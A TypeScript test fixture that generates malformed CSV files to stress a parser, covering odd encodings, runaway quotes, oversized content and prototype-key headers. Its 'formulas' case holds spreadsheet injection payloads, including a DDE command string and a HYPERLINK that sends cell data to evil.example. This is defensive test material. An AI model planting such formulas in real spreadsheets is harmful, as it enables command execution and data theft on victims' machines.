import type { BrokenSort, Random } from './broken-files.ts'

const lines = [
  'Name,Wing,Flat No,Owner/Tenant,Mobile',
  'Jos\u00e9 P\u0101t\u012bl,A,101,Owner,9820000010',
  'Ravi,B,202,Tenant,9.82E+09',
]
const text = lines.join('\r\n')
const utf8 = (content: string): Uint8Array => new TextEncoder().encode(content)
const utf16 = (content: string): Buffer => Buffer.from(content, 'utf16le')
const utf32 = (content: string): Uint8Array =>
  new Uint8Array(Uint32Array.from(content, (character) => character.codePointAt(0) ?? 0).buffer)
const eightBits = (table: string) => (): Uint8Array =>
  Uint8Array.from(`Name,Flat\n${table},A-101\n`, (character) => character.charCodeAt(0) & 0xff)

const mostBytes = 5_000_000
const filled = (piece: string, bytes = mostBytes): Uint8Array =>
  new Uint8Array(Buffer.alloc(Math.floor(bytes / piece.length) * piece.length, piece))

const pick = <T>(random: Random, list: readonly [T, ...T[]]): T => list[random(list.length)] ?? list[0]

/** What begins a formula in one program or another. */
const formulas = ['=', '+', '-', '@', '\t=', '\r=', '|', '%'] as const
const commands = [
  `cmd|' /C calc'!A0`,
  'HYPERLINK("http://evil.example?"&A1,"Name")',
  'IMPORTXML(A1,"//a")',
  'WEBSERVICE("x")',
] as const

/** Ten encodings, then what no reader should trip over. */
export const brokenCsvFiles: readonly BrokenSort[] = [
  { name: 'UTF-8', make: () => utf8(text) },
  { name: 'UTF-8 with a mark', make: () => utf8(`\ufeff${text}`) },
  { name: 'UTF-16, little end first', make: () => new Uint8Array(utf16(`\ufeff${text}`)) },
  { name: 'UTF-16, big end first', make: () => new Uint8Array(utf16(`\ufeff${text}`).swap16()) },
  { name: 'UTF-16 without a mark', make: () => new Uint8Array(utf16(text)) },
  { name: 'UTF-32', make: () => utf32(`\ufeff${text}`) },
  { name: 'Windows-1252', make: eightBits('Jos\u00e9 \u0092\u0096') },
  { name: 'Windows-1251', make: eightBits('\u00cf\u00e5\u00f2\u00f0') },
  { name: 'Shift JIS', make: eightBits('\u0083\u0065\u0083\u0058\u0083\u0067') },
  { name: 'GB 18030', make: eightBits('\u00d6\u00d0\u0081\u0030\u0081\u0030') },
  {
    name: 'EBCDIC',
    make: () => new Uint8Array(Buffer.from('d58194856bc69381a3258188816b c160f1f0f1'.replace(' ', ''), 'hex')),
  },
  { name: 'UTF-7', make: () => utf8('+AFA-rice,Flat\n+AKM-1,A-101') },
  {
    name: 'UTF-16 with a byte too many',
    make: () => new Uint8Array(Buffer.concat([utf16(`\ufeff${text}`), Buffer.of(65)])),
  },
  { name: 'halves of characters', make: () => new Uint8Array(utf16(`\ufeffName,Flat\n\ud800x,A-101\n\udc00,B-1`)) },
  {
    name: 'NUL somewhere',
    make: (random) => {
      const bytes = utf8(text)
      bytes[random(bytes.length)] = 0
      return bytes
    },
  },
  {
    name: 'control characters',
    make: (random) =>
      utf8(
        `Name,Flat\n${Array.from({ length: 400 }, () => `A${String.fromCharCode(1 + random(31))}b,${random(900)}`).join('\n')}`,
      ),
  },
  { name: 'a quotation mark that never closes', make: () => utf8(`Name,Flat\nA,1\n"${'x,y\n'.repeat(100_000)}`) },
  { name: 'nothing but quotation marks', make: (random) => filled('"', 1 + random(mostBytes)) },
  { name: 'quotation marks in the middle', make: () => utf8(`Name,Flat\n${'a"b,"c"d\n'.repeat(2000)}`) },
  { name: 'nothing but commas', make: () => filled(',') },
  { name: 'nothing but line ends', make: (random) => filled(pick(random, ['\n', '\r\n', '\r', '\n\r'])) },
  { name: 'nothing but tabs and spaces', make: () => filled('\t ') },
  { name: 'one line without an end', make: () => filled('abcdefgh') },
  { name: 'thousands of columns', make: (random) => utf8(`${'a,'.repeat(51 + random(9000))}\n${'b,'.repeat(9000)}`) },
  {
    name: 'a row longer than the others',
    make: (random) => utf8(`Name,Flat\nA,1\nB,2${',x'.repeat(40 + random(20))}`),
  },
  { name: 'a huge cell', make: (random) => utf8(`Name,Flat\nA,1\n${'B'.repeat(1001 + random(3_000_000))},2`) },
  { name: 'a huge cell in quotation marks', make: () => utf8(`Name,Flat\n"${'B\n'.repeat(1_000_000)}",2`) },
  { name: 'hundreds of thousands of rows', make: () => filled('A,1\n', 2_000_000) },
  { name: 'one row too many', make: () => utf8(`Name,Flat\n${'A,1\n'.repeat(10_001)}`) },
  {
    name: 'formulas',
    make: (random) =>
      utf8(
        `Name,Flat,Mobile\n${Array.from({ length: 40 }, () => `"${pick(random, formulas)}${pick(random, commands).replaceAll('"', '""')}",A-${random(900)},=9820000010`).join('\n')}`,
      ),
  },
  { name: 'names of objects', make: () => utf8('__proto__,constructor,toString\n__proto__,hasOwnProperty,A-101\n') },
  {
    name: 'marks upon marks',
    make: () => utf8(`Name,Flat\nZ${'\u0301'.repeat(990)},A-101\n${'\u200b\u202e'.repeat(300)},B-1\n`),
  },
  { name: 'a header only', make: () => utf8(`${lines[0] ?? ''}\n`) },
  { name: 'a separator line only', make: () => utf8('sep=;\n') },
  { name: 'a mark only', make: () => utf8('\ufeff') },
  {
    name: 'numbers without an end',
    make: () => utf8(`Name,Flat,Mobile\nA,${'9'.repeat(900)},9.${'8'.repeat(900)}E+99\nB,1e9999,-0.0e-0\n`),
  },
]
